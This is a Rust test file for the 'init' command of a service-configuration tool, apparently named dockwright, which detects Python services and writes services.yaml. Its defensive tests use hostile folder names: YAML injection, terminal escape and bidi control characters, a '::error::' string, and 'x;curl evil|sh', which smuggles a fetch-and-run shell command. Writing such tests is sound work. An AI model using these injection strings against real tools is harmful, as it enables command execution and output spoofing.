//! What `init` finds in a repository and declares.

use std::os::unix::ffi::OsStrExt as _;

use crate::support::Root;

#[test]
fn init_declares_the_services_that_are_there() {
    let root = Root::empty();
    for (path, text) in [
        (
            "services/orders/main.py",
            "from fastapi import FastAPI\napp = FastAPI()\n",
        ),
        ("services/orders/requirements.txt", "fastapi\nuvicorn\n"),
        ("services/mailer/worker.py", "print()\n"),
        (
            "services/ledger/Dockerfile",
            "FROM python:3.12-slim\nWORKDIR /app\nCOPY . .\nCMD [\"python\", \"ledger.py\"]\n",
        ),
        ("services/ledger/ledger.py", "print()\n"),
        ("services/shop-front/Dockerfile", "FROM node:22\nCOPY . .\n"),
        ("services/notes/README.md", "x\n"),
    ] {
        root.write(path, text);
    }
    let run = root.run(&["init"]);
    assert_eq!(run.status, 0, "{}", run.told());
    let text = root.text("services.yaml");
    let services = text.split("\nservices:\n").nth(1).unwrap();
    for line in [
        "  ledger: { cmd: \"python ledger.py\" }\n",
        "  mailer: { cmd: \"python -u worker.py\" }\n",
        "  orders: { install: \"{source}/requirements.txt\", port: 8000, app: \"main:app\" }\n",
    ] {
        assert!(services.contains(line), "{line} is not in\n{text}");
    }
    assert!(
        text.contains("  source: \"services/{name}\"\n  target: /app"),
        "{text}"
    );
    for line in [
        "\n2 services from folders:\n  services/mailer\n  services/orders\n",
        "\n1 service from Dockerfiles (same or harmless):\n  services/ledger/Dockerfile\n",
        "\nnot for Python:\n  services/shop-front/Dockerfile\n",
    ] {
        assert!(run.stdout.contains(line), "{}", run.told());
    }
    assert_eq!(root.run(&["generate"]).status, 0);
    assert_eq!(root.check().status, 0);
}

#[test]
fn init_reads_locks_projects_and_the_folder_of_the_repository_itself() {
    let app = "from fastapi import FastAPI\napp = FastAPI()\n";
    let project = "[project]\nname = \"api\"\nversion = \"0\"\ndependencies = [\"fastapi\"]\n";
    let lock = "version = 1\nrequires-python = \">=3.12\"\n\n[manifest]\nmembers = [\"api\"]\n\n\
                [[package]]\nname = \"api\"\nversion = \"0\"\nsource = { editable = \"api\" }\n\
                dependencies = [{ name = \"fastapi\" }]\n\n[package.metadata]\n\
                requires-dist = [{ name = \"fastapi\" }]\n\n[[package]]\nname = \"fastapi\"\n\
                version = \"0.100.0\"\nsource = { registry = \"https://packages.example/simple\" }\n";
    let workspace = "[tool.uv.workspace]\nmembers = [\"api\"]\n";
    let of_workspace = [
        ("api/src/api/main.py", app),
        ("api/pyproject.toml", project),
        ("pyproject.toml", workspace),
        ("uv.lock", lock),
    ];
    let of_root = [("main.py", app), ("requirements.txt", "fastapi\nuvicorn\n")];
    for (files, lines) in [
        (
            &of_workspace[..],
            [
                "install: { path: uv.lock, package: api }",
                "source: \"{name}/src\"",
            ],
        ),
        (&of_root[..], ["install: requirements.txt", "source: \".\""]),
    ] {
        let root = Root::empty();
        for (path, text) in files {
            root.write(path, text);
        }
        let run = root.run(&["init"]);
        assert_eq!(run.status, 0, "{}", run.told());
        let text = root.text("services.yaml");
        for line in lines {
            assert!(text.contains(line), "{line} is not in\n{text}");
        }
        assert_eq!(root.run(&["generate"]).status, 0);
        assert_eq!(root.check().status, 0);
    }
}

#[test]
fn init_says_why_a_folder_is_left_out() {
    let root = Root::empty();
    root.write("services/a/main.py", "print()\n");
    root.write("services/a/requirements.txt", "-r ../../../outside.txt\n");
    root.write("services/b/lib.py", "");
    let run = root.run(&["init"]);
    assert_eq!(run.status, 0, "{}", run.told());
    let hint = "dockwright new NAME --source services/b --cmd";
    assert!(run.stdout.contains(hint), "{}", run.told());
    assert!(
        run.stdout.contains("\nskipped services/a: "),
        "{}",
        run.told()
    );
}

#[test]
fn init_writes_only_names_that_our_grammars_accept() {
    let hostile = [
        "a\nservices: { evil: { kind: non-ml } }\n#",
        "b\r# x",
        "c\u{2028}d",
        "e\u{202e}f",
        "g\u{1b}[31m",
        "h: i",
        "j#k",
        "{l}",
        "q w",
        "\u{85}",
        "::error::x",
    ];
    let root = Root::empty();
    for name in hostile.iter().chain(&["svc_plain", "no", "svc-dash"]) {
        root.write(&format!("services/{name}/main.py"), "");
    }
    let raw = std::ffi::OsStr::from_bytes(b"services/\xff");
    std::fs::create_dir_all(root.path().as_std_path().join(raw)).unwrap();
    let run = root.run(&["init"]);
    assert_eq!(run.status, 0, "{}", run.told());
    let text = root.text("services.yaml");
    for name in hostile {
        assert!(!text.contains(name), "{name:?} is in\n{text}");
    }
    assert!(
        text.chars()
            .all(|character| character == '\n' || (' '..='~').contains(&character)),
        "{text}"
    );
    assert!(
        text.ends_with(
            "\nservices:\n  \"no\": {}\n  svc-dash: {}\n  \
             svc-plain: { source: \"services/{module}\" }\n"
        ),
        "{text}"
    );
    assert!(
        !run.stdout
            .contains(['\u{1b}', '\r', '\u{2028}', '\u{202e}', '\u{85}']),
        "{}",
        run.told()
    );
    assert!(
        run.stdout
            .lines()
            .all(|line| !line.starts_with("::") && !line.starts_with("services:")),
        "{}",
        run.told()
    );
    assert!(
        run.stdout.contains("q w"),
        "what is not written is told: {}",
        run.told()
    );
    assert_eq!(root.run(&["generate"]).status, 0);
}

#[test]
fn what_init_prints_is_quoted_as_a_shell_takes_it() {
    let root = Root::empty();
    let folder = "services/x;curl evil|sh";
    let text = "FROM python:3.12-slim\nWORKDIR /x\nCOPY . /app\nRUN frob --knob\nCMD [\"python\", \"a.py\"]\n";
    root.write(&format!("{folder}/Dockerfile"), text);
    root.write(&format!("{folder}/a.py"), "");
    let run = root.run(&["init"]);
    assert_eq!(run.status, 0, "{}", run.told());
    for line in run
        .stdout
        .lines()
        .filter(|line| line.contains("dockwright diff"))
    {
        assert!(
            line.contains("'services/x;curl evil|sh/Dockerfile'"),
            "{}",
            run.told()
        );
    }
    let is_live = |line: &str| {
        line.starts_with("  dockwright") && line.contains(";curl") && !line.contains('\'')
    };
    assert!(!run.stdout.lines().any(is_live), "{}", run.told());
}
